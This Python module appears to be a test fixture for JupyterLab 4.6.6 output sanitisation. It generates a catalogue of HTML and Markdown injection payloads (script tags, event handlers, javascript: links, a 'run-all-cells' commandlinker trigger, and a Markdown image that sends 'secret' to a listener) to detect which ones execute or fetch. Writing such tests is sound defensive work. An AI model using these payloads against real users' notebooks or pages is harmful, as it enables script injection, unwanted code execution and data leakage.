"""What hostile web text can hold: everything that JupyterLab 4.6.6 was seen to run or fetch in an output, and more.

Each payload fetches from the listener under its own name, or adds its name to `window.__ran`, when it gets through.
"""

from __future__ import annotations

from collections.abc import Mapping


def payloads(address: str) -> Mapping[str, str]:
    """Return name → text for a listener at `address`."""

    def to(name: str) -> str:
        return f"{address}/{name}"

    def run(name: str) -> str:
        return f"(window.__ran=window.__ran||[]).push('{name}')"

    html = {
        "img": f'<img src="{to("img")}">',
        "script": f"<script>{run('script')};fetch('{to('script')}')</script>",
        "onerror": f'<img src="x:y" onerror="{run("onerror")}">',
        "js_link": f'<a href="javascript:{run("js_link")}" target="_self">click</a>',
        "data_link": '<a href="data:text/html,<script>1</script>">data</a>',
        "iframe": f'<iframe src="{to("iframe")}"></iframe>',
        "style_attribute": f'<div style="background-image:url({to("style_attribute")});width:9px;height:9px">s</div>',
        "style_tag": f"<style>body{{background:url({to('style_tag')})}}</style>",
        "link_tag": f'<link rel="stylesheet" href="{to("link_tag")}">',
        "video": f'<video poster="{to("video")}" src="{to("video")}"></video>',
        "audio": f'<audio src="{to("audio")}" controls></audio>',
        "svg": f'<svg onload="{run("svg")}"><image href="{to("svg")}"/></svg>',
        "form": f'<form action="{to("form")}"><button>go</button></form>',
        "meta": f'<meta http-equiv="refresh" content="0;url={to("meta")}">',
        "object": f'<object data="{to("object")}"></object>',
        "srcset": f'<img src="data:," srcset="{to("srcset")} 1x">',
        "ping": f'<a href="https://ok.example/" ping="{to("ping")}">p</a>',
        "command_button": '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">c</button>',
        "command_link": '<a href="#" data-commandlinker-command="notebook:run-all-cells">c</a>',
        "overlay": '<div id="main" style="position:fixed;top:0;left:0;width:99px;height:99px;z-index:9999">overlay</div>',
        "closing_tags": f"</pre></summary></details></table></div></style><script>{run('closing_tags')}</script>",
        "comment": f"<!-- --><img src='{to('comment')}'><!-- ",
        "attribute": f'" onmouseover="{run("attribute")}" style="position:fixed;inset:0" x="',
    }
    markdown = {
        "md_image": f"![x]({to('md_image')}?q=secret)",
        "md_reference_image": f"![x][r]\n\n[r]: {to('md_reference_image')}",
        "md_nested_image": f"[![x]({to('md_nested_image')})](https://ok.example/)",
        "md_html_in_table": f"| a |\n|---|\n| <img src={to('md_html_in_table')}> |",
        "md_js_link": f"[x](javascript:{run('md_js_link')})",
        "md_js_entity": f"[x](&#106;avascript:{run('md_js_entity')})",
        "md_js_autolink": f"<javascript:{run('md_js_autolink')}>",
        "md_js_reference": f"[x][j]\n\n[j]: javascript:{run('md_js_reference')}",
        "md_data_link": "[d](data:text/html,hello)",
        "md_code_break": f"`a` http://ok.example/`<img src={to('md_code_break')}>`",
        "md_fence_break": f"```\n</code></pre><img src={to('md_fence_break')}>\n```",
        "md_newline_entity": f"x&#10;&#10;<img src={to('md_newline_entity')}>",
        "math_href": r"$\href{javascript:alert(1)}{x}$ and $$\style{background:red}{y}$$ \(\href{javascript:1}{z}\)",
        "math_dollars": "It costs $0.012 and then $1.340 in all.",
    }
    return html | markdown
